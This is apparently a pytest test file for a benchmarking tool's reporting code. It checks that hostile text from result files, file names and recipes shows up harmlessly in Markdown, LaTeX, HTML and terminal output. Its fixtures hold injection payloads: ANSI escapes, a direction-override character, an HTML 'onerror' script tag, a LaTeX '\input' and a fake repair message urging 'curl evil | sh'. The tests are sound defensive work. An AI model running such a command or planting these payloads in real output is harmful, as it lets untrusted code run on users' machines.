"""Text in a result file comes from strangers. It never acts where it is shown."""

import html
import re
import shutil
from pathlib import Path

import numpy as np
import pytest

from fewbench.reports.records import RunResult
from fewbench.reports.report import write_report
from fewbench.reports.report_data import gather
from fewbench.reports.result_files import load_results, save_result
from fewbench.reports.tables.printed import latex, markdown, result_grids, to_text
from fewbench_tests.commands import call_fewbench
from fewbench_tests.honest_results import build_honest
from fewbench_tests.paths import REPOSITORY

HOSTILE = "a\x1b[31m\x9b2J\u202eb\r\n<img src=x onerror=alert(1)>[red]|`*\\input{x}$%\x00\u2028"
LIE = "error: the disk is damaged. To repair it, type: curl evil | sh"
SUFFIXES = (".md", ".tex", ".html", ".svg")


@pytest.fixture
def results(tmp_path: Path) -> list[RunResult]:
    """Two results whose free texts are hostile, as they are read from their files."""
    for seed in (0, 1):
        made = build_honest(
            0.5 + 0.1 * seed,
            seed,
            train_seed=seed,
            backbone=HOSTILE,
            recipe={HOSTILE: HOSTILE},
            device=HOSTILE,
            environment={HOSTILE: HOSTILE},
            command=HOSTILE,
            created_utc=HOSTILE,
            data_fingerprint="data" + HOSTILE,
            class_names=np.array([f"{c}{HOSTILE}" for c in range(117)]),
        )
        save_result(made, tmp_path / "results")
    return load_results([tmp_path / "results"])


def check_is_inert(text: str) -> None:
    """Nothing in it moves the cursor of a terminal or turns the direction of writing."""
    for line in re.split("[\n\t]", text):
        without_spaces = "".join(line.split(" "))
        assert re.sub("[\xa0\u2000-\u200a\u202f]", "", without_spaces).isprintable(), (
            line
        )


def test_printed_tables_are_inert(results: list[RunResult]) -> None:
    grids = result_grids(results)
    for more in gather(results).grids.values():
        grids += more
    assert len(grids) > 1
    for text in (markdown(grids), latex(grids), to_text(results)):
        check_is_inert(text)
    assert not re.search(r"(?<!\\)<img", markdown(grids))
    assert r"\input{x}" not in latex(grids)


@pytest.mark.usefixtures("quick_fonts")
def test_a_report_is_inert(results: list[RunResult], tmp_path: Path) -> None:
    paths = write_report(results, tmp_path / "report")
    texts = [path for path in paths if path.suffix in SUFFIXES]
    assert {path.suffix for path in texts} >= {".md", ".tex", ".html"}
    for path in texts:
        text = path.read_text(encoding="utf-8")
        check_is_inert(text)
        if path.suffix == ".html":
            assert "<img src=x" not in text
            assert "<img src=x onerror" in html.unescape(text)


@pytest.mark.usefixtures("unrendered")
@pytest.mark.parametrize("command", ["report", "compare"])
def test_a_command_says_nothing_that_acts(
    results: list[RunResult], tmp_path: Path, command: str
) -> None:
    assert results
    arguments = ["report", "results", "--out", "report"]
    if command == "compare":
        files = sorted((tmp_path / "results").glob("*.json"))
        arguments = ["compare", *map(str, files)]
    done = call_fewbench(tmp_path, tmp_path, *arguments)
    check_is_inert(done.stdout)
    check_is_inert(done.stderr)


def test_the_error_about_a_damaged_result_is_inert(
    results: list[RunResult], tmp_path: Path
) -> None:
    for result in results:
        (tmp_path / "results" / f"{result.file_stem}.npz").unlink()
    done = call_fewbench(tmp_path, tmp_path, "report", "results", "--out", "a", code=2)
    check_is_inert(done.stderr)
    assert done.stderr.count("\n") == 1
    assert "onerror" not in done.stderr
    assert "evaluate again: fewbench evaluate LEARNER" in done.stderr


def check_begins_no_line(text: str) -> None:
    """A name in it is shown, and begins no line that looks like one of ours."""
    assert "curl evil" in text
    for line in text.splitlines():
        assert not line.startswith(LIE), text


@pytest.mark.parametrize("kind", ["folder", "zip"])
def test_a_file_of_a_source_begins_no_line(tmp_path: Path, kind: str) -> None:
    source = tmp_path / "pics"
    class_folder = source / "pics" / f"c\n{LIE}"
    class_folder.mkdir(parents=True)
    for number in range(3):
        (class_folder / f"{number}\n{LIE}.png").write_bytes(b"no image")
    if kind == "zip":
        shutil.make_archive(str(tmp_path / "pics"), "zip", source)
        source = tmp_path / "pics.zip"
    done = call_fewbench(tmp_path, tmp_path, "data", "identify", str(source), code=2)
    check_begins_no_line(done.stdout + done.stderr)


@pytest.mark.usefixtures("unrendered")
@pytest.mark.parametrize("command", ["report", "verify", "compare"])
def test_a_file_of_a_folder_of_results_begins_no_line(
    tmp_path: Path, command: str
) -> None:
    folder = tmp_path / "results"
    folder.mkdir()
    if command == "report":
        save_result(build_honest(0.5, 0), folder)
    for name in (f"a\n{LIE}\n__b__seed0.json", f"\u2028{LIE}\x85__b__seed1.json"):
        (folder / name).write_text('{"schema_version": 1}')
    arguments = [command, str(folder)]
    code = 2
    if command == "report":
        arguments += ["--out", str(tmp_path / "report")]
        code = 1
    if command == "verify":
        code = 1
    done = call_fewbench(tmp_path, tmp_path, *arguments, code=code)
    check_begins_no_line(done.stdout + done.stderr)


@pytest.mark.parametrize("key", ["backbone", "learner"])
def test_a_recipe_begins_no_line(tmp_path: Path, key: str) -> None:
    recipe = REPOSITORY / "baselines" / "recipes" / "protonet-glyphs.toml"
    lie = f'{key} = "a\\n{LIE}\\nb:c"'
    text, n_changed = re.subn(f"(?m)^{key} = .*", lambda _: lie, recipe.read_text())
    assert n_changed == 1
    (tmp_path / "r.toml").write_text(text)
    arguments = ["train", "--recipe", "r.toml", "--out", "run"]
    done = call_fewbench(tmp_path, tmp_path, *arguments, code=2)
    check_begins_no_line(done.stderr)
    assert done.stderr.count("\n") == 1
